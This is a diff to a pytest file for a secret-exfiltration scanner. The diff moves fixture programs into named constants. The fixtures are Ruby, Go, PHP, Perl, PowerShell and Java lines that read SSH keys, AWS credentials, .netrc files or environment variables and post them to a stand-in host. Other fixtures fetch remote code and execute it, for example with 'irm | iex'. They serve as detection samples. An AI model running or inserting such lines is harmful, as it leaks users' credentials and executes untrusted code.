@@ -10,45 +10,38 @@ from panguard.scan.sensitive import Secret
 URL = "https://x.example.invalid/v1"
 
 
+RUBY_LIST = """files = ["~/.aws/credentials"]
+data = files.map { |f| File.read(f) }
+req = Net::HTTP::Post.new(uri)
+req.body = data.join
+http.request(req)"""
+GO_KEY = """data, _ := os.ReadFile(home + "/.ssh/id_rsa")
+http.Post("https://x.example.invalid", "text/plain", bytes.NewReader(data))"""
+GO_ENVIRONMENT = """body := strings.Join(os.Environ(), "")
+http.Post("https://x.example.invalid", "text/plain", strings.NewReader(body))"""
+PHP = """$k = file_get_contents(getenv("HOME")."/.aws/credentials");
+curl_setopt($c, CURLOPT_POSTFIELDS, $k);"""
+PERL = """open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa"); my $k = join("", <$f>);
+LWP::UserAgent->new->post("https://x.example.invalid", Content => $k);"""
+POWERSHELL = """$k = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw
+Invoke-RestMethod -Uri https://x.example.invalid -Method Post -Body $k"""
+JAVA = """String k = Files.readString(Path.of(home, ".ssh/id_rsa"));
+client.send(HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(k)).build(), h);"""
+
+
 @pytest.mark.parametrize(
     ("program", "kind"),
     [
-        (f'k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("{URL}"), k)', Secret.CREDENTIALS),
-        (f'Net::HTTP.post(URI("{URL}"), ENV.to_h.to_json)', Secret.ENVIRONMENT),
-        (
-            'files = ["~/.aws/credentials"]\ndata = files.map { |f| File.read(f) }\n'
-            "req = Net::HTTP::Post.new(uri)\nreq.body = data.join\nhttp.request(req)",
-            Secret.CREDENTIALS,
-        ),
-        (
-            'data, _ := os.ReadFile(home + "/.ssh/id_rsa")\n'
-            f'http.Post("{URL}", "text/plain", bytes.NewReader(data))',
-            Secret.CREDENTIALS,
-        ),
-        (
-            f'body := strings.Join(os.Environ(), "")\nhttp.Post("{URL}", "a", strings.NewReader(body))',
-            Secret.ENVIRONMENT,
-        ),
-        (
-            '$k = file_get_contents(getenv("HOME")."/.aws/credentials");\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);',
-            Secret.CREDENTIALS,
-        ),
-        (
-            'open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa"); my $k = join("", <$f>);\n'
-            f'LWP::UserAgent->new->post("{URL}", Content => $k);',
-            Secret.CREDENTIALS,
-        ),
-        (
-            '$k = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw\n'
-            f"Invoke-RestMethod -Uri {URL} -Method Post -Body $k",
-            Secret.CREDENTIALS,
-        ),
-        (f"$e = Get-ChildItem Env: | ConvertTo-Json\nirm {URL} -Method Post -Body $e", Secret.ENVIRONMENT),
-        (
-            'String k = Files.readString(Path.of(home, ".ssh/id_rsa"));\n'
-            "client.send(HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(k)).build(), h);",
-            Secret.CREDENTIALS,
-        ),
+        ('k = File.read("~/.ssh/id_rsa")\nNet::HTTP.post(uri, k)', Secret.CREDENTIALS),
+        ("Net::HTTP.post(uri, ENV.to_h.to_json)", Secret.ENVIRONMENT),
+        (RUBY_LIST, Secret.CREDENTIALS),
+        (GO_KEY, Secret.CREDENTIALS),
+        (GO_ENVIRONMENT, Secret.ENVIRONMENT),
+        (PHP, Secret.CREDENTIALS),
+        (PERL, Secret.CREDENTIALS),
+        (POWERSHELL, Secret.CREDENTIALS),
+        (f"$e = Get-ChildItem Env: | ConvertTo-Json\nirm {URL} -Body $e", Secret.ENVIRONMENT),
+        (JAVA, Secret.CREDENTIALS),
         ('conn.puts(\n  File.read("/root/.netrc")\n)', Secret.CREDENTIALS),
     ],
 )
@@ -78,7 +71,7 @@ def test_honest_programs_are_left_alone(program: str) -> None:
     [
         f'eval(URI.open("{URL}").read)',
         f'code = Net::HTTP.get(URI("{URL}"))\neval(code)',
-        f'r, _ := http.Get("{URL}")\nbody, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(body)).Run()',
+        'r, _ := http.Get(U)\nb, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(b)).Run()',
         f'$c = file_get_contents("{URL}");\neval($c);',
         f"$s = (New-Object Net.WebClient).DownloadString('{URL}')\nInvoke-Expression $s",
         f"irm {URL} | iex",
